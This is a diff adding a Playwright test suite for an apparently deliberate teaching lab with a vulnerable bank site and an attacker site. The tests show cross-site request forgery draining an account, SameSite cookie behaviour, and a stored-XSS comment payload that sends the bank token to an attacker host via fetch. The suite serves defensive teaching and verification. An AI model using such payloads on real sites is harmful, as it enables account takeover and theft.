@@ -1,0 +1,137 @@
+import { expect } from '@playwright/test';
+import { newUser } from '../support/account.ts';
+import { openBank, sitesOf, type OpenedBank } from '../support/bank.ts';
+import { signUpOnPage, storedToken, test } from '../support/browser.ts';
+import { stack } from '../support/stack.ts';
+
+// Real navigations between the bank and the attacker's site.
+
+const sites = sitesOf();
+let bank: OpenedBank;
+test.beforeEach(async ({ request }) => {
+  bank = await openBank(request);
+});
+
+test('a click on the prize page of another site moves the money of the signed-in user', async ({
+  page,
+  context,
+}) => {
+  await bank.signIn(page, { carrier: 'none' });
+  await expect(page.getByRole('main')).toContainText('€ 1000');
+
+  const other = await context.newPage();
+  await other.goto(bank.attack('/prize'));
+  await other.getByRole('button', { name: 'Claim my prize' }).click();
+  await expect(other.getByRole('status')).toHaveText('You sent 100 to mallory.');
+
+  expect(await bank.balances()).toEqual({ ada: 900, mallory: 100 });
+  const forged = (await bank.arrivals()).find(
+    ({ method, path }) => method === 'POST' && path.endsWith('/transfer'),
+  );
+  expect(forged).toMatchObject({
+    accepted: true,
+    reason: 'transferred',
+    user: 'ada',
+    origin: sites.attacker,
+    fetchSite: 'cross-site',
+    fetchMode: 'navigate',
+    cookies: ['bank'],
+    authorization: false,
+  });
+});
+
+test('the browser withholds a cookie with SameSite=Lax, and sends it from another port of the same host', async ({
+  page,
+}) => {
+  await bank.signIn(page, { carrier: 'lax' });
+  await page.goto(bank.attack('/prize'));
+  await page.getByRole('button', { name: 'Claim my prize' }).click();
+  await expect
+    .poll(async () => (await bank.arrivals()).at(-1))
+    .toMatchObject({
+      accepted: false,
+      reason: 'authentication_required',
+      fetchSite: 'cross-site',
+      cookies: [],
+    });
+  expect(await bank.balances()).toEqual({ ada: 1000, mallory: 0 });
+
+  await page.goto(bank.attack('/prize', 'neighbour'));
+  await page.getByRole('button', { name: 'Claim my prize' }).click();
+  await expect(page.getByRole('status')).toHaveText('You sent 100 to mallory.');
+  expect(await bank.balances()).toEqual({ ada: 900, mallory: 100 });
+});
+
+test('a script in a comment steals the token of the bank, and the attacker uses it from its own server', async ({
+  page,
+}) => {
+  await bank.signIn(page, { token: 'storage' });
+  const steal = `fetch('${bank.attack('/collect')}&data='+localStorage.getItem('bank-token'),{mode:'no-cors'})`;
+  await page.getByRole('link', { name: 'Comments' }).click();
+  await page.getByLabel('Your comment').fill(`<img src="/none" onerror="${steal}">`);
+  await page.getByRole('button', { name: 'Publish' }).click();
+
+  await page.goto(bank.attack('/screen'));
+  await page.getByRole('button', { name: 'Use it' }).click();
+  await expect(page.getByRole('listitem').last()).toContainText('replay: 200');
+  expect((await bank.arrivals()).at(-1)).toMatchObject({
+    path: '/v1/labs/bank/me',
+    authorization: true,
+    accepted: true,
+  });
+});
+
+test('a script in the bank reaches nothing of the app', async ({ page, context }) => {
+  const user = newUser();
+  await page.goto(stack.baseUrl);
+  await signUpOnPage(page, user);
+  const token = await storedToken(page);
+  expect(token).toMatch(/^[\w-]{86}$/);
+
+  const bankPage = await context.newPage();
+  await bank.signIn(bankPage, { carrier: 'none', http_only: 'off' });
+  const found = await bankPage.evaluate(async (app) => {
+    const attempts: Record<string, () => unknown> = {
+      storage: () => Object.keys(localStorage),
+      read: async () => (await fetch(`${app}/v1/ping`)).text(),
+      withCookies: async () => (await fetch(`${app}/v1/users/me`, { credentials: 'include' })).text(),
+      // The app refuses to be framed, so this is the browser's error page.
+      frame: () => frame.contentWindow?.localStorage.length,
+      ownPort: async () => (await fetch('/v1/users/me')).status,
+      ownLabPaths: async () => (await fetch('/v1/labs/bank/students', { method: 'POST' })).status,
+    };
+    const frame = document.createElement('iframe');
+    frame.src = app;
+    document.body.append(frame);
+    await new Promise((resolve) => frame.addEventListener('load', resolve));
+    const outcomes: Record<string, string> = {};
+    for (const [name, attempt] of Object.entries(attempts)) {
+      try {
+        outcomes[name] = JSON.stringify(await attempt());
+      } catch (error) {
+        outcomes[name] = error instanceof Error ? error.name : 'error';
+      }
+    }
+    return outcomes;
+  }, stack.baseUrl);
+  expect(found).toEqual({
+    storage: '[]',
+    read: 'TypeError',
+    withCookies: 'TypeError',
+    frame: 'SecurityError',
+    ownPort: '404',
+    ownLabPaths: '404',
+  });
+
+  // The token of the bank opens nothing of the app, in a header or in a cookie.
+  const [cookie] = await context.cookies(sites.bank);
+  const ofBank = cookie?.value ?? '';
+  expect(ofBank).toMatch(/^[\w-]{86}$/);
+  for (const headers of [{ Authorization: `Bearer ${ofBank}` }, { Cookie: `bank=${ofBank}` }])
+    expect((await page.request.get('/v1/users/me', { headers })).status()).toBe(401);
+  // The token of the app opens nothing of the bank.
+  const me = await page.request.get(`${sites.bank}/v1/labs/bank/me`, {
+    headers: { Authorization: `Bearer ${token}` },
+  });
+  expect(me.status()).toBe(401);
+});
